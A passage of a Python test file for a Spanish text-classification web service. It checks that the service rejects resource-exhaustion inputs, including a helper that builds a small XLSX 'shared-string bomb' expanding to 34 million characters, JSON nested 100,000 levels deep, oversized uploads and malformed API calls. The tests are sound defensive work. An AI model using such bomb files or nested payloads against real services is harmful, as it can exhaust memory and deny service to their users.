                f'<Relationship Id="rId2" Type="{_REL_NS}/sharedStrings" '
                'Target="sharedStrings.xml"/></Relationships>'
            ).encode(),
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{_MAIN_NS}"><sheetData>'
                f'<row r="1"><c r="A1" t="s"><v>0</v></c></row>{cells}</sheetData></worksheet>'
            ).encode(),
            "xl/sharedStrings.xml": (
                f'<sst xmlns="{_MAIN_NS}"><si><t>textos</t></si><si><t>{text}</t></si></sst>'
            ).encode(),
        },
    )


def test_an_xlsx_repeating_one_shared_string_is_refused_while_reading(tmp_path: Path) -> None:
    # One 340,000-character shared string in 100 cells: 34 M characters, archive under budget.
    path = make_shared_string_bomb(tmp_path / "compartido.xlsx", LONG_TEXT, rows=100)
    with zipfile.ZipFile(path) as archive:
        assert sum(info.file_size for info in archive.infolist()) < 1024 * 1024
    with pytest.raises(DataError, match="se expande a más de 2,0 MB"):
        data.read_table(path, EXPANDED)
    small = make_shared_string_bomb(tmp_path / "normal.xlsx", SPANISH, rows=3)
    assert data.read_table(small, EXPANDED)["textos"].tolist() == [SPANISH] * 3


def test_texts_are_cut_before_any_repair(service: Service, monkeypatch) -> None:
    """ftfy took 21 s on a 10 MB text: it sees at most twice ``max_text_chars`` characters."""
    import ftfy

    seen: list[int] = []
    for name in ("fix_and_explain", "fix_text"):
        original = getattr(ftfy, name)

        def recording(text, *args, _original=original, **kwargs):
            seen.append(len(text))
            return _original(text, *args, **kwargs)

        monkeypatch.setattr(ftfy, name, recording)
    huge = "La educaciÃ³n rural necesita maestros y transporte escolar. " * 40_000  # 2.4 M
    assert "supera" in " ".join(service.predict(huge).warnings)
    service.predict_many([huge, SPANISH])
    cleaned, _ = data.clean_labelled(
        pd.DataFrame({"text": [huge], "label": [4]}), settings=service.settings
    )
    assert seen and max(seen) <= data.RAW_CHARS_PER_KEPT_CHAR * MAX_TEXT_CHARS
    assert len(cleaned["text"][0]) <= MAX_TEXT_CHARS and "educación" in cleaned["text"][0]


def test_a_request_is_capped_in_characters_not_only_in_texts(home: Path) -> None:
    capped = Service(Settings(home=home, max_request_chars=1_000))
    with pytest.raises(DataError, match="ODSGR_MAX_REQUEST_CHARS"):
        capped.predict_many([SPANISH * 5] * 3)  # 3 texts, under the count cap, ~1,200 characters
    assert len(capped.predict_many([SPANISH] * 3)) == 3


# ----------------------------------------------------------------------- disk filling (issue 12)


def test_gradio_refuses_uploads_over_the_size_limit(app_url: str) -> None:
    assert ui.launch_options(Settings(max_file_mb=MAX_FILE_MB))["max_file_size"] == 2 * 1024**2
    too_big = b"textos\n" + (SPANISH.encode() + b"\n") * (3 * 1024**2 // len(SPANISH))
    response = httpx.post(
        app_url + "gradio_api/upload", files={"files": ("grande.csv", too_big, "text/csv")}
    )
    assert response.status_code == 413, response.text[:200]
    small = httpx.post(
        app_url + "gradio_api/upload", files={"files": ("ok.csv", b"textos\nhola\n", "text/csv")}
    )
    assert small.status_code == 200


def test_result_files_are_deleted_after_their_time_to_live(home: Path, tmp_path: Path) -> None:
    app = ui.OdsgrApp(Service(Settings(home=home, results_ttl_min=30)), AccessPolicy())
    upload = tmp_path / "textos.csv"
    pd.DataFrame({"textos": [SPANISH]}).to_csv(upload, index=False)

    def result_folder() -> Path:
        return app.classify_table(str(upload), None, lambda *_: None).paths[0].parent

    old = result_folder()
    recent = result_folder()
    hour_ago = time.time() - 3600
    os.utime(old, (hour_ago, hour_ago))
    fresh = result_folder()
    assert not old.exists() and recent.exists() and fresh.exists()
    # Gradio's own copies of uploads and results expire on the same schedule.
    assert ui.build_app(app.service, AccessPolicy()).delete_cache == (1800, 1800)


# ------------------------------------------------------------- minor findings of issue 12


@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_deeply_nested_json_uploads_get_a_spanish_message(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"anidado{suffix}"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(DataError, match="demasiada profundidad"):
        data.read_table(path)


def test_a_window_of_1e308_days_gets_a_spanish_message(service: Service, demo_data) -> None:
    with pytest.raises(DataError, match="como mucho 36500"):
        service.retrain(paths=[demo_data], strategy="window", window_days=1e308)


def _raw_call(url: str, name: str, payload: list) -> str:
    """The error a plain REST caller (no gradio_client filling defaults) receives."""
    event = httpx.post(url + f"gradio_api/call/{name}", json={"data": payload})
    event.raise_for_status()
    stream = httpx.get(url + f"gradio_api/call/{name}/{event.json()['event_id']}", timeout=60)
    return json.loads(stream.text.split("data:")[-1])["error"]


@pytest.mark.parametrize(
    ("name", "payload", "message"),
    [
        ("predict", [], "Faltan argumentos en la llamada a «predict»"),
        ("history", ["", "", ""], "Faltan argumentos en la llamada a «history»"),
        ("predict_batch", ["[" * 100_000, False], "Se esperaba una lista JSON de textos"),
        ("history", ["", "", "", "abc", 10, ""], "«page» debe ser un número entero"),
        ("history", ["", "", ["a"], 1, 10, ""], "«search» debe ser un texto"),
    ],
    ids=["no_arguments", "missing_arguments", "nested_json_string", "page_abc", "search_list"],
)
def test_malformed_api_calls_get_a_spanish_message(
    app_url: str, name: str, payload: list, message: str
) -> None:
    error = _raw_call(app_url, name, payload)
    assert error is not None and message in error
